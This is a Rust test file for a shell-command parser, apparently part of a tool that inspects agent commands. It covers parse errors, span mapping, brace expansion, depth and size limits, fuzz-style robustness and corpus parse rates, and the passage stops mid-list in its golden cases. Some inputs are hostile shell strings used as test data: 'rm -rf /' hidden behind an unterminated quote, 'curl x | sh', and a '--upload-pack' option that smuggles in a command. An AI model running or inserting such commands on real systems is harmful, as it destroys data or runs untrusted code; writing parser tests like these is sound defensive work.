//! Parser tests: golden S-expression snapshots (one line per case, grouped by spec rule),
//! error codes, span mapping, helpers, limits, robustness and the corpus gates (P4-R23).

use super::*;
use crate::shell::ast::{CommandContext, Visitor};

fn limits() -> ParseLimits {
    ParseLimits::default()
}

/// Checks the spans of every word and part: inside the input and on char boundaries.
struct SpanCheck<'a> {
    src: &'a str,
}

impl<'a, 'b> Visitor<'b> for SpanCheck<'a> {
    fn word(&mut self, w: &'b Word, _ctx: &CommandContext) {
        assert!(
            w.span.slice(self.src).is_some(),
            "word span {:?} outside {:?}",
            w.span,
            self.src
        );
        for p in &w.parts {
            let s = p.span();
            assert!(
                s.slice(self.src).is_some(),
                "part span {s:?} outside {:?}",
                self.src
            );
            assert!(
                w.span.contains(s) || w.span.is_empty(),
                "part {s:?} not in word {:?} for {:?}",
                w.span,
                self.src
            );
        }
    }
}

fn check_spans(src: &str, script: &Script) {
    assert!(script.span.slice(src).is_some());
    let mut v = SpanCheck { src };
    crate::shell::ast::walk_script(script, &mut v);
}

#[track_caller]
fn assert_golden(src: &str, want: &str) {
    let p = parse(src, &limits());
    assert_eq!(p.error, None, "unexpected error for {src:?}");
    assert_eq!(p.script.to_sexp(), want, "input {src:?}");
    check_spans(src, &p.script);
}

#[track_caller]
fn assert_error(src: &str, code: &str) {
    let p = parse(src, &limits());
    let e = p
        .error
        .as_ref()
        .unwrap_or_else(|| panic!("expected a parse error for {src:?}"));
    assert_eq!(e.code.as_str(), code, "input {src:?}: {}", e.message);
    assert!(
        e.span.start as usize <= src.len() && e.span.end as usize <= src.len(),
        "error span {:?}",
        e.span
    );
    check_spans(src, &p.script);
}

macro_rules! golden {
    ($($name:ident: $src:expr => $want:expr;)*) => {
        $( #[test] fn $name() { assert_golden($src, $want); } )*
    };
}

macro_rules! bad {
    ($($name:ident: $src:expr => $code:expr;)*) => {
        $( #[test] fn $name() { assert_error($src, $code); } )*
    };
}

mod errors {
    use super::*;
    bad! {
        err_single_quote: "echo 'a" => "unterminated_single_quote";
        err_single_quote_hides_rm: "echo 'unterminated; rm -rf /" => "unterminated_single_quote";
        err_double_quote: "echo \"a" => "unterminated_double_quote";
        err_double_quote_in_subst: "echo $(echo \"a)" => "unterminated_double_quote";
        err_ansi_c: "echo $'a" => "unterminated_ansi_c";
        err_subst: "echo $(ls" => "unterminated_substitution";
        err_subst_empty: "echo $(" => "unterminated_substitution";
        err_subst_in_param_arg: "echo ${x:-$(ls}" => "unterminated_substitution";
        err_procsubst: "cat <(ls" => "unterminated_substitution";
        err_subst_in_heredoc_body: "cat <<EOF\n$(\nEOF" => "unterminated_substitution";
        err_backtick: "echo `ls" => "unterminated_backtick";
        err_backtick_nested: "echo `echo \\`a`" => "unterminated_backtick";
        err_param: "echo ${x" => "unterminated_parameter";
        err_param_arg: "echo ${x:-a" => "unterminated_parameter";
        err_param_replace: "echo ${x/a" => "unterminated_parameter";
        err_arith: "echo $((1+2" => "unterminated_arithmetic";
        err_arith_bracket: "echo $[1" => "unterminated_arithmetic";
        err_arith_command: "((1" => "unterminated_arithmetic";
        err_arith_for: "for ((i=0;i<3" => "unterminated_arithmetic";
        err_heredoc: "cat <<EOF\nx" => "unterminated_heredoc";
        err_heredoc_no_body: "cat <<EOF" => "unterminated_heredoc";
        err_heredoc_second: "cat <<A <<B\na\nA\nb" => "unterminated_heredoc";
        err_heredoc_strip_delimiter_needs_tabs_only: "cat <<-EOF\nx\n  EOF" => "unterminated_heredoc";
        err_rparen: "echo )" => "unexpected_token";
        err_fi: "fi" => "unexpected_token";
        err_done: "done" => "unexpected_token";
        err_then: "then" => "unexpected_token";
        err_in: "in" => "unexpected_token";
        err_esac: "esac" => "unexpected_token";
        err_rbrace: "}" => "unexpected_token";
        err_semicolon: ";" => "unexpected_token";
        err_double_semicolon: "a;;" => "unexpected_token";
        err_pipe_semicolon: "echo a | ;" => "unexpected_token";
        err_empty_group: "{ }" => "unexpected_token";
        err_empty_subshell: "( )" => "unexpected_token";
        err_if_without_then: "if a; fi" => "unexpected_token";
        err_glued_lbrace: "{echo; }" => "unexpected_token";
        err_function_simple_body: "f() echo" => "unexpected_token";
        err_redirect_to_redirect: "echo a > > b" => "unexpected_token";
        err_empty_while_condition: "while; do :; done" => "unexpected_token";
        err_empty_cond: "[[ ]]" => "unexpected_token";
        err_background_alone: "&" => "unexpected_token";
        err_pipe_first: "| a" => "unexpected_token";
        err_and_first: "&& a" => "unexpected_token";
        err_case_missing_paren: "case x in a b) ;; esac" => "unexpected_token";
        err_lparen_after_args: "echo a (b)" => "unexpected_token";
        err_then_eof: "if true; then" => "unexpected_eof";
        err_pipe_eof: "echo a |" => "unexpected_eof";
        err_and_eof: "a &&" => "unexpected_eof";
        err_do_eof: "for x in a; do" => "unexpected_eof";
        err_case_eof: "case x in" => "unexpected_eof";
        err_case_body_eof: "x=$(case x in a) ls" => "unexpected_eof";
        err_function_eof: "f()" => "unexpected_eof";
        err_redirect_eof: "echo >" => "unexpected_eof";
        err_group_eof: "{ echo }" => "unexpected_eof";
        err_cond_eof: "[[ a" => "unexpected_eof";
        err_coproc_eof: "coproc" => "unexpected_eof";
        err_extglob_eof: "echo @(a" => "unexpected_eof";
        err_array_eof: "a=(1 2" => "unexpected_eof";
        err_zsh_nested_param: "echo ${${x}}" => "unsupported_syntax";
        err_zsh_quoted_param: "echo ${\"x\"}" => "unsupported_syntax";
        err_zsh_disown: "a &| b" => "unsupported_syntax";
        err_zsh_case_terminator: "case x in a) ;| esac" => "unsupported_syntax";
        err_zsh_anonymous_function: "function { ls; }" => "unsupported_syntax";
    }
}

mod spans {
    use super::*;

    fn first_simple(p: &Parsed) -> SimpleCommand {
        p.script
            .simple_commands()
            .first()
            .map(|(c, _)| (*c).clone())
            .unwrap_or_default()
    }

    #[test]
    fn continuation_inside_word_is_a_split_token() {
        let src = "tr\\\naceroute 192.0.2.1";
        let p = parse(src, &limits());
        assert_eq!(p.error, None);
        assert_eq!(p.continuations, vec![Span::new(2, 4)]);
        assert_eq!(p.split_tokens, vec![Span::new(0, 12)]);
        let c = first_simple(&p);
        assert_eq!(
            c.words.first().and_then(Word::literal_value).as_deref(),
            Some("traceroute")
        );
        assert_eq!(c.words.first().map(|w| w.span), Some(Span::new(0, 12)));
        assert_eq!(c.words.get(1).map(|w| w.span), Some(Span::new(13, 22)));
    }

    #[test]
    fn continuation_between_words_is_not_split() {
        let p = parse("echo a \\\n b", &limits());
        assert_eq!(p.continuations, vec![Span::new(7, 9)]);
        assert!(p.split_tokens.is_empty());
        let p = parse("echo a\\\n b", &limits());
        assert!(p.split_tokens.is_empty(), "{:?}", p.split_tokens);
    }

    #[test]
    fn continuation_inside_operator() {
        let src = "a &\\\n& b";
        let p = parse(src, &limits());
        assert_eq!(p.split_tokens, vec![Span::new(2, 6)]);
        let tail = p
            .script
            .list
            .items
            .first()
            .and_then(|i| i.and_or.rest.first())
            .map(|t| t.op_span);
        assert_eq!(tail, Some(Span::new(2, 6)));
        assert_eq!(Span::new(2, 6).slice(src), Some("&\\\n&"));
    }

    #[test]
    fn continuation_in_dollar_paren() {
        let src = "echo $\\\n(id)";
        let p = parse(src, &limits());
        assert_eq!(p.split_tokens, vec![Span::new(5, 12)]);
        let c = first_simple(&p);
        let w = c.words.get(1).map(|w| w.span);
        assert_eq!(w, Some(Span::new(5, 12)));
        let inner = p.script.simple_commands();
        let id = inner
            .iter()
            .find(|(c, _)| c.words.first().and_then(Word::literal_value).as_deref() == Some("id"));
        assert_eq!(
            id.map(|(c, ctx)| (c.span, ctx.substitution_depth)),
            Some((Span::new(9, 11), 1))
        );
    }

    #[test]
    fn spans_of_words_and_parts() {
        let src = "echo \"a $b\" 'c'd";
        let p = parse(src, &limits());
        let c = first_simple(&p);
        let spans: Vec<_> = c
            .words
            .iter()
            .map(|w| w.span.slice(src).unwrap_or("?"))
            .collect();
        assert_eq!(spans, vec!["echo", "\"a $b\"", "'c'd"]);
        let w = c
            .words
            .get(1)
            .cloned()
            .unwrap_or_else(|| Word::plain("", Span::default()));
        let parts: Vec<_> = w
            .parts
            .iter()
            .map(|p| p.span().slice(src).unwrap_or("?"))
            .collect();
        assert_eq!(parts, vec!["a ", "$b"]);
    }

    #[test]
    fn backtick_spans_map_into_original() {
        let src = "echo `echo \\$HOME x`";
        let p = parse(src, &limits());
        assert_eq!(p.error, None);
        let cmds = p.script.simple_commands();
        let inner = cmds.get(1).map(|(c, _)| (*c).clone()).unwrap_or_default();
        let spans: Vec<_> = inner
            .words
            .iter()
            .map(|w| w.span.slice(src).unwrap_or("?"))
            .collect();
        assert_eq!(spans, vec!["echo", "$HOME", "x"]);
        assert_eq!(inner.span.slice(src), Some("echo \\$HOME x"));
    }

    #[test]
    fn nested_backtick_spans() {
        let src = "a `b \\`c d\\``";
        let p = parse(src, &limits());
        assert_eq!(p.error, None);
        let cmds = p.script.simple_commands();
        let c = cmds
            .iter()
            .find(|(c, _)| c.words.first().and_then(Word::literal_value).as_deref() == Some("c"));
        let words: Vec<_> = c
            .map(|(c, _)| {
                c.words
                    .iter()
                    .map(|w| w.span.slice(src).unwrap_or("?"))
                    .collect()
            })
            .unwrap_or_default();
        assert_eq!(words, vec!["c", "d"]);
    }

    #[test]
    fn heredoc_body_span() {
        let src = "cat <<EOF\nhi $x\nEOF\necho";
        let p = parse(src, &limits());
        let c = first_simple(&p);
        let h = c.redirections.first().and_then(|r| r.heredoc.clone());
        let h = h.unwrap_or_else(|| panic!("no heredoc"));
        assert_eq!(h.body_span.slice(src), Some("hi $x\n"));
        let parts: Vec<_> = h
            .body
            .iter()
            .map(|p| p.span().slice(src).unwrap_or("?"))
            .collect();
        assert_eq!(parts, vec!["hi ", "$x", "\n"]);
        assert_eq!(
            c.redirections.first().map(|r| r.span.slice(src)),
            Some(Some("<<EOF"))
        );
    }

    #[test]
    fn ansi_c_escape_spans() {
        let src = "echo $'a\\x63\\n'";
        let p = parse(src, &limits());
        let c = first_simple(&p);
        let Some(WordPart::Literal(l)) = c.words.get(1).and_then(|w| w.parts.first()).cloned()
        else {
            panic!("no literal");
        };
        assert_eq!(l.text, "ac\n");
        let esc: Vec<_> = l
            .escapes
            .iter()
            .map(|e| {
                (
                    e.span.slice(src).unwrap_or("?"),
                    e.source.as_str(),
                    e.decoded.as_str(),
                )
            })
            .collect();
        assert_eq!(esc, vec![("\\x63", "\\x63", "c"), ("\\n", "\\n", "\n")]);
    }

    #[test]
    fn comment_spans() {
        let src = "echo a # one\n# two\necho b#c";
        let p = parse(src, &limits());
        let cs: Vec<_> = p
            .comments
            .iter()
            .map(|s| s.slice(src).unwrap_or("?"))
            .collect();
        assert_eq!(cs, vec!["# one", "# two"]);
    }

    #[test]
    fn comment_does_not_swallow_continuation() {
        let src = "# a \\\necho x";
        let p = parse(src, &limits());
        assert_eq!(p.comments, vec![Span::new(0, 5)]);
        assert!(p.continuations.is_empty());
        assert_eq!(p.script.simple_commands().len(), 1);
    }

    #[test]
    fn command_span_and_redirection_order() {
        let src = "a >f b 2>&1 c";
        let p = parse(src, &limits());
        let c = first_simple(&p);
        assert_eq!(c.span, Span::new(0, 13));
        let r: Vec<_> = c
            .redirections
            .iter()
            .map(|r| r.span.slice(src).unwrap_or("?"))
            .collect();
        assert_eq!(r, vec![">f", "2>&1"]);
        assert_eq!(c.words.len(), 3);
    }

    #[test]
    fn assignment_spans() {
        let src = "A[1]+=x B=~/y cmd";
        let p = parse(src, &limits());
        let c = first_simple(&p);
        let a = c
            .assignments
            .first()
            .cloned()
            .unwrap_or_else(|| panic!("no assignment"));
        assert_eq!(a.span.slice(src), Some("A[1]+=x"));
        assert_eq!(a.name_span.slice(src), Some("A"));
        assert!(a.append);
        assert_eq!(
            a.subscript.map(|s| s.span.slice(src).map(str::to_owned)),
            Some(Some("[1]".to_string()))
        );
        let AssignValue::Scalar(v) = &a.value else {
            panic!("array")
        };
        assert_eq!(v.span.slice(src), Some("x"));
    }

    #[test]
    fn spans_after_many_continuations() {
        let src = "e\\\nc\\\nh\\\no \\\n\"a\\\nb\" c\\\nd";
        let p = parse(src, &limits());
        assert_eq!(p.error, None);
        let c = first_simple(&p);
        let vals: Vec<_> = c
            .words
            .iter()
            .map(|w| w.literal_value().unwrap_or_default())
            .collect();
        assert_eq!(vals, vec!["echo", "ab", "cd"]);
        let spans: Vec<_> = c
            .words
            .iter()
            .map(|w| w.span.slice(src).unwrap_or("?"))
            .collect();
        assert_eq!(spans, vec!["e\\\nc\\\nh\\\no", "\"a\\\nb\"", "c\\\nd"]);
        assert_eq!(p.continuations.len(), 6);
        assert_eq!(p.split_tokens.len(), 3);
    }
}

mod helpers {
    use super::*;

    fn words(src: &str) -> Vec<Word> {
        let p = parse(src, &limits());
        assert_eq!(p.error, None, "{src:?}");
        p.script
            .simple_commands()
            .first()
            .map(|(c, _)| c.words.clone())
            .unwrap_or_default()
    }

    fn expand(src: &str) -> Vec<String> {
        words(src)
            .iter()
            .flat_map(|w| w.brace_expand(1024).unwrap_or_default())
            .map(|w| w.literal_value().unwrap_or_else(|| "<dyn>".into()))
            .collect()
    }

    #[test]
    fn literal_values() {
        let vals: Vec<_> = words("a 'b c' \"d$x\" e\\ f $'\\x41' \"\" *.txt ~ {a,b} $\"g\"")
            .iter()
            .map(Word::literal_value)
            .collect();
        assert_eq!(
            vals,
            vec![
                Some("a".into()),
                Some("b c".into()),
                None,
                Some("e f".into()),
                Some("A".into()),
                Some(String::new()),
                None,
                None,
                None,
                Some("g".into())
            ]
        );
    }

    #[test]
    fn literal_value_keep_globs() {
        let w = words("x *.t?t");
        assert_eq!(
            w.get(1).and_then(Word::literal_value_keep_globs).as_deref(),
            Some("*.t?t")
        );
    }

    #[test]
    fn plain_literals() {
        let flags: Vec<_> = words("ls \\ls 'ls' l\"s\" $x -la")
            .iter()
            .map(Word::is_plain_literal)
            .collect();
        assert_eq!(flags, vec![true, false, false, false, false, true]);
    }

    #[test]
    fn brace_expansion_values() {
        assert_eq!(expand("{a,b}c"), vec!["ac", "bc"]);
        assert_eq!(expand("{a,b}{1,2}"), vec!["a1", "a2", "b1", "b2"]);
        assert_eq!(expand("{1..3}"), vec!["1", "2", "3"]);
        assert_eq!(expand("{3..1}"), vec!["3", "2", "1"]);
        assert_eq!(expand("{01..03}"), vec!["01", "02", "03"]);
        assert_eq!(expand("{1..10..4}"), vec!["1", "5", "9"]);
        assert_eq!(expand("{a..c}"), vec!["a", "b", "c"]);
        assert_eq!(expand("{-2..0}"), vec!["-2", "-1", "0"]);
        assert_eq!(expand("x{a,{b,c}}y"), vec!["xay", "xby", "xcy"]);
        assert_eq!(expand("{x{a,b}}"), vec!["{xa}", "{xb}"]);
        assert_eq!(expand("a{,}"), vec!["a", "a"]);
        assert_eq!(expand("{a}"), vec!["{a}"]);
        assert_eq!(expand("{}"), vec!["{}"]);
        assert_eq!(expand("{\"a b\",c}"), vec!["a b", "c"]);
        assert_eq!(
            expand("{--upload-pack=touch\\ x,y}"),
            vec!["--upload-pack=touch x", "y"]
        );
    }

    #[test]
    fn brace_expansion_cap() {
        let big = ParseLimits {
            max_brace_words_per_word: 100_000,
            max_brace_words_per_command: 100_000,
            ..ParseLimits::default()
        };
        let p = parse("{1..100}{1..100}", &big);
        assert_eq!(p.error, None);
        let w: Vec<Word> = p
            .script
            .simple_commands()
            .first()
            .map(|(c, _)| c.words.clone())
            .unwrap_or_default();
        let w = w
            .first()
            .cloned()
            .unwrap_or_else(|| Word::plain("", Span::default()));
        assert_eq!(w.brace_count(), 10_000);
        assert!(w.brace_expand(1024).is_err());
        assert_eq!(w.brace_expand(10_000).map(|v| v.len()), Ok(10_000));
    }

    #[test]
    fn brace_expansion_keeps_dynamic_parts() {
        let w = words("{$x,y}");
        let e = w
            .first()
            .map(|w| w.brace_expand(10).unwrap_or_default())
            .unwrap_or_default();
        assert_eq!(e.len(), 2);
        assert_eq!(e.first().and_then(Word::literal_value), None);
        assert_eq!(e.get(1).and_then(Word::literal_value).as_deref(), Some("y"));
    }

    #[test]
    fn simple_commands_reach_everything() {
        let src = "a $(b) \"$(c)\" <(d) >(e) ${x:-$(f)} $((1 + $(g))) `h` <<EOF && { i; } | (j)\n$(k)\nEOF\nf() { l; }; [[ $(m) ]]; x=$(n) o > $(p); for v in $(q); do r; done; case $(s) in t) u;; esac";
        let p = parse(src, &limits());
        assert_eq!(p.error, None);
        let mut names: Vec<String> = p
            .script
            .simple_commands()
            .iter()
            .filter_map(|(c, _)| c.words.first().and_then(Word::literal_value))
            .collect();
        names.sort();
        let want: Vec<String> = "a b c d e f g h i j k l m n o p q r s u"
            .split(' ')
            .map(str::to_owned)
            .collect();
        assert_eq!(names, want);
    }

    #[test]
    fn walker_context() {
        let p = parse("a | b $(c) & f() { d; }", &limits());
        let cmds = p.script.simple_commands();
        let ctx: Vec<_> = cmds
            .iter()
            .map(|(c, x)| {
                (
                    c.words
                        .first()
                        .and_then(Word::literal_value)
                        .unwrap_or_default(),
                    x.stage,
                    x.stages,
                    x.substitution_depth,
                    x.background,
                    x.in_function,
                )
            })
            .collect();
        assert_eq!(
            ctx,
            vec![
                ("a".into(), 0, 2, 0, true, false),
                ("b".into(), 1, 2, 0, true, false),
                ("c".into(), 0, 1, 1, true, false),
                ("d".into(), 0, 1, 0, false, true),
            ]
        );
    }

    #[test]
    fn serializes_to_json() {
        let p = parse("echo ${x:-$(id)} {a,b} <<EOF\n$y\nEOF", &limits());
        let json = serde_json::to_string(&p).unwrap_or_default();
        assert!(json.contains("\"command_subst\""), "{json}");
        assert!(json.contains("\"brace\""));
        assert!(!json.contains("\"id\":"));
    }

    #[test]
    fn error_code_strings() {
        assert_eq!(
            ParseErrorCode::LimitExceeded(LimitKind::Depth).as_str(),
            "limit_exceeded"
        );
        assert_eq!(
            ParseErrorCode::LimitExceeded(LimitKind::Depth)
                .limit()
                .map(LimitKind::as_str),
            Some("depth")
        );
        assert_eq!(LimitKind::InputTooLarge.as_str(), "input_too_large");
        assert_eq!(LimitKind::BraceWords.as_str(), "brace_words");
        assert_eq!(LimitKind::Nodes.as_str(), "nodes");
        assert_eq!(ParseErrorCode::UnexpectedEof.limit(), None);
    }

    #[test]
    fn partial_ast_on_error() {
        let p = parse("curl x | sh; echo 'oops", &limits());
        assert_eq!(
            p.error.as_ref().map(|e| e.code),
            Some(ParseErrorCode::UnterminatedSingleQuote)
        );
        let names: Vec<_> = p
            .script
            .simple_commands()
            .iter()
            .filter_map(|(c, _)| c.words.first().and_then(Word::literal_value))
            .collect();
        assert_eq!(names, vec!["curl", "sh", "echo"]);
    }

    #[test]
    fn partial_ast_keeps_the_failing_word() {
        let p = parse("curl x | sh $(", &limits());
        assert_eq!(
            p.error.as_ref().map(|e| e.code),
            Some(ParseErrorCode::UnterminatedSubstitution)
        );
        assert_eq!(
            p.script.to_sexp(),
            "(pipe (cmd curl x) | (cmd sh (w ($( (list)))))"
        );
        let p = parse("$(", &limits());
        assert_eq!(p.script.to_sexp(), "(cmd (w ($( (list))))");
    }

    #[test]
    fn heredoc_body_parsed_when_unquoted_only() {
        let p = parse("cat <<EOF\n$(id)\nEOF\ncat <<'EOF'\n$(id)\nEOF", &limits());
        assert_eq!(p.error, None);
        let n = p
            .script
            .simple_commands()
            .iter()
            .filter(|(_, c)| c.in_heredoc)
            .count();
        assert_eq!(n, 1);
    }

    #[test]
    fn redirection_helpers() {
        assert!(RedirOp::Write.writes() && RedirOp::DupOut.writes() && !RedirOp::Read.writes());
        assert_eq!(RedirOp::HereDocStrip.as_str(), "<<-");
    }
}

mod limits_and_robustness {
    use super::*;

    fn code(p: &Parsed) -> Option<(&'static str, Option<&'static str>)> {
        p.error
            .as_ref()
            .map(|e| (e.code.as_str(), e.code.limit().map(LimitKind::as_str)))
    }

    #[test]
    fn depth_100_nested_substitutions() {
        let src = format!("{}x{}", "$(".repeat(100), ")".repeat(100));
        let p = parse(&src, &limits());
        assert_eq!(code(&p), Some(("limit_exceeded", Some("depth"))));
    }

    #[test]
    fn depth_64_nested_substitutions_parse() {
        let src = format!("echo {}x{}", "$(".repeat(63), ")".repeat(63));
        let p = parse(&src, &limits());
        assert_eq!(p.error, None);
    }

    #[test]
    fn depth_limits_on_every_recursion() {
        let n = 200;
        let cases = [
            format!("{}x{}", "( ".repeat(n), " )".repeat(n)),
            format!("{}x;{}", "{ ".repeat(n), " }".repeat(n)),
            format!("echo {}x{}", "${a:-".repeat(n), "}".repeat(n)),
            format!("echo {}1{}", "$((".repeat(n), "))".repeat(n)),
            format!("echo {}x{}", "\"$(echo ".repeat(n), ")\"".repeat(n)),
            format!("[[ {}x ]]", "! ".repeat(n)),
            format!("[[ {}x{} ]]", "( ".repeat(n), " )".repeat(n)),
            format!("echo {}x{}", "@(".repeat(n), ")".repeat(n)),
            format!("echo {}x{}", "<(".repeat(n), ")".repeat(n)),
            format!("{}true{}", "if true; then ".repeat(n), "; fi".repeat(n)),
            format!("{}:{}", "while true; do ".repeat(n), "; done".repeat(n)),
            format!("echo {}x{}", "{a,".repeat(n), "}".repeat(n)),
            format!("echo ${{a[{}0{}]}}", "${b[".repeat(n), "]}".repeat(n)),
        ];
        for src in &cases {
            let p = parse(src, &limits());
            assert_eq!(
                code(&p),
                Some(("limit_exceeded", Some("depth"))),
                "{src:.40}"
            );
        }
    }

    #[test]
    fn deep_nesting_fits_a_small_stack() {
        // wasm32 gets about 1 MiB of stack: parse at the depth limit on a 1 MiB thread.
        let run = std::thread::Builder::new().stack_size(1 << 20).spawn(|| {
            let mut ok = 0;
            for n in [63usize, 64, 65, 100, 1000] {
                let srcs = [
                    format!("echo {}x{}", "$(".repeat(n), ")".repeat(n)),
                    format!("echo {}x{}", "\"$(echo ".repeat(n), ")\"".repeat(n)),
                    format!("{}x{}", "(".repeat(n), ")".repeat(n)),
                    format!("x{}", " | (x".repeat(n)),
                    format!("echo {}x{}", "${a:-\"".repeat(n), "\"}".repeat(n)),
                ];
                for s in &srcs {
                    let p = parse(s, &ParseLimits::default());
                    let _ = p.script.to_sexp();
                    let _ = p.script.simple_commands();
                    ok += 1;
                }
            }
            ok
        });
        let joined = run.map(|h| h.join());
        assert!(
            matches!(joined, Ok(Ok(25))),
            "parser overflowed a 1 MiB stack"
        );
    }

    #[test]
    fn node_limit() {
        let small = ParseLimits {
            max_nodes: 100,
            ..ParseLimits::default()
        };
        let p = parse(&"a ".repeat(200), &small);
        assert_eq!(code(&p), Some(("limit_exceeded", Some("nodes"))));
        let p = parse(&"a;".repeat(30_000), &limits());
        assert_eq!(code(&p), Some(("limit_exceeded", Some("nodes"))));
    }

    #[test]
    fn brace_limit_per_word() {
        let p = parse("echo {1..2000}", &limits());
        assert_eq!(code(&p), Some(("limit_exceeded", Some("brace_words"))));
        let p = parse("echo {1..32}{1..32}", &limits());
        assert_eq!(p.error, None);
        let p = parse("echo {1..33}{1..32}", &limits());
        assert_eq!(code(&p), Some(("limit_exceeded", Some("brace_words"))));
        let p = parse("echo {1..9999999999}", &limits());
        assert_eq!(code(&p), Some(("limit_exceeded", Some("brace_words"))));
    }

    #[test]
    fn brace_limit_per_command() {
        let p = parse(&format!("echo{}", " {1..1000}".repeat(9)), &limits());
        assert_eq!(code(&p), Some(("limit_exceeded", Some("brace_words"))));
        let p = parse(&format!("echo{}", " {1..1000}".repeat(8)), &limits());
        assert_eq!(p.error, None);
    }

    #[test]
    fn input_too_large() {
        let src = format!("echo {} | sh", "a".repeat(70_000));
        let p = parse(&src, &limits());
        assert_eq!(code(&p), Some(("limit_exceeded", Some("input_too_large"))));
        assert!(p.script.list.items.is_empty());
    }

    #[test]
    fn pathological_inputs_are_linear() {
        let n = 60_000;
        let inputs = [
            "[".repeat(n),
            "{".repeat(n),
            format!("echo {}", "{a,".repeat(n / 3)),
            "\\\n".repeat(n / 2),
            "$((".repeat(n / 3),
            "a=(".to_string() + &"x ".repeat(n / 2),
            format!("echo {}", "~".repeat(n)),
            "'".repeat(n),
            "\"".repeat(n),
            "`".repeat(n),
            "<<".repeat(n / 2),
            format!("cat {}\n", "<<E ".repeat(n / 4)),
            format!("cat {}\n{}", "<<E ".repeat(n / 7), "E\n".repeat(n / 7)),
            format!("echo {}", "x[ ".repeat(n / 3)),
            format!("echo {}", "a[".repeat(n / 2)),
            "a\\\n".repeat(n / 3),
            format!("echo {}", "*(".repeat(n / 2)),
            ";".repeat(n),
            "(".repeat(n),
        ];
        // Each must come back (no overflow, no hang); speed is measured by the benchmark,
        // never by a timed assertion on a shared machine.
        for src in &inputs {
            let _ = parse(src, &limits());
        }
    }

    /// Every prefix of every interesting input parses without panicking and with spans that
    /// stay inside the prefix.
    #[test]
    fn prefixes_never_panic() {
        let seeds = [
            "echo \"a $(b 'c' \\\"d\\\") `e \\`f\\``\" ${g:-${h/i/j}} $((k + $(l))) <<EOF | m\nn $o\nEOF\n",
            "case $x in (a|b) c;; *) d;& e) ;;& esac; [[ a =~ (b|c) && ! -f x ]]; ((i++))",
            "f() { for ((i=0;i<3;i++)); do echo {1..3}{a,b} ~/x *(e:'id':) @(a|b); done; } >&2",
            "a=(1 [2]=x) b[$(c)]+=d coproc e { f; } always { g; }; select h in i; do j; done",
            "cat <<-'A' <<B\n\tx\n\tA\n$y\nB\nrepeat 3 { k; }; foreach l (m) n; end; $'\\x41\\c@'",
        ];
        for seed in seeds {
            for (i, _) in seed.char_indices() {
                let prefix = seed.get(..i).unwrap_or_default();
                let p = parse(prefix, &limits());
                check_spans(prefix, &p.script);
                let _ = p.script.to_sexp();
            }
        }
    }

    /// Pseudo-random inputs over the shell alphabet (a deterministic proptest substitute).
    #[test]
    fn random_inputs_never_panic() {
        let alphabet: Vec<&str> = vec![
            "a", "b", " ", "\n", "\t", ";", "&", "|", "(", ")", "<", ">", "{", "}", "[", "]", "$",
            "`", "'", "\"", "\\", "#", "=", "~", "*", "?", "!", "@", "+", ",", ".", "-", ":", "/",
            "%", "^", "0", "1", "if ", "then ", "fi", "do ", "done", "case ", "in ", "esac",
            "for ", "while ", "((", "))", "[[ ", " ]]", "<<E\n", "\nE\n", "$(", "${", "$((",
            "\\\n", "é", "\r", "\0",
        ];
        let mut seed: u64 = 0x2545_F491_4F6C_DD1D;
        let mut next = || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let mut runs = 0;
        for _ in 0..20_000 {
            let len = (next() % 40) as usize;
            let mut s = String::new();
            for _ in 0..len {
                let k = (next() % alphabet.len() as u64) as usize;
                s.push_str(alphabet.get(k).copied().unwrap_or("a"));
            }
            let p = parse(&s, &limits());
            check_spans(&s, &p.script);
            let _ = p.script.to_sexp();
            runs += 1;
        }
        assert_eq!(runs, 20_000);
    }
}

mod corpus {
    use super::*;

    use crate::test_support::dir as corpora_dir;

    /// Parses every line; returns (parsed without error, total).
    fn rate(file: &str) -> (usize, usize) {
        let path = corpora_dir().join(file);
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
            panic!(
                "corpus {} missing ({e}); set AGENT_OPS_CORPORA_DIR",
                path.display()
            )
        });
        let mut ok = 0;
        let mut n = 0;
        for line in text.lines() {
            n += 1;
            let p = parse(line, &limits());
            if p.error.is_none() {
                ok += 1;
            }
        }
        (ok, n)
    }

    #[test]
    fn tldr_parse_rate() {
        let (ok, n) = rate("tldr.txt");
        let pct = 100.0 * ok as f64 / n.max(1) as f64;
        eprintln!("tldr.txt: {ok}/{n} lines parse ({pct:.2} %)");
        assert!(
            n > 29_000 && pct >= 99.0,
            "tldr parse rate {pct:.2} % below 99.0 %"
        );
    }

    #[test]
    fn nl2bash_parse_rate() {
        let (ok, n) = rate("nl2bash.txt");
        let pct = 100.0 * ok as f64 / n.max(1) as f64;
        eprintln!("nl2bash.txt: {ok}/{n} lines parse ({pct:.2} %)");
        assert!(
            n > 10_000 && pct >= 98.5,
            "nl2bash parse rate {pct:.2} % below 98.5 %"
        );
    }
}

mod golden_cases {
    use super::*;
    golden! {
    cont_in_word: "ec\\\nho hi" => r#"(cmd echo hi)"#;
    cont_in_andand: "echo a &\\\n& echo b" => r#"(andor (cmd echo a) && (cmd echo b))"#;
    cont_in_oror: "false |\\\n| echo b" => r#"(andor (cmd false) || (cmd echo b))"#;
    cont_dollar_paren: "echo $\\\n(ls)" => r#"(cmd echo (w ($( (cmd ls))))"#;
    cont_dollar_brace: "echo $\\\n{x}" => r#"(cmd echo (w ${x}))"#;
    cont_between_words: "echo a \\\n b" => r#"(cmd echo a b)"#;
    cont_kept_in_single_quotes: "echo 'a\\\nb'" => r#"(cmd echo (w s"a\\\nb"))"#;
    cont_removed_in_double_quotes: "echo \"a\\\nb\"" => r#"(cmd echo (w d"ab"))"#;
    cont_kept_in_ansi_c: "echo $'a\\\nb'" => r#"(cmd echo (w a"a\\\nb"))"#;
    cont_removed_in_unquoted_heredoc: "cat <<EOF\na\\\nb\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d"ab\n")))"#;
    cont_kept_in_quoted_heredoc: "cat <<'EOF'\na\\\nb\nEOF" => r#"(cmd cat (<< (w s"EOF") (heredoc "EOF" quoted s"a\\\nb\n")))"#;
    cont_not_in_comment: "# c \\\necho x" => r#"(cmd echo x)"#;
    cont_crlf_is_not_continuation: "echo a\\\r\nb" => r#"(list (cmd echo (w "a" e"\r")) (cmd b))"#;
    cont_in_command_name: "l\\\ns -l" => r#"(cmd ls -l)"#;
    cont_in_assignment: "x=\\\n1 cmd" => r#"(cmd (= x 1) cmd)"#;
    cont_in_redirection_op: "echo a >\\\n> f" => r#"(cmd echo a (>> f))"#;
    escaped_backslash_then_newline: "echo \\\\\necho b" => r#"(list (cmd echo (w e"\\")) (cmd echo b))"#;
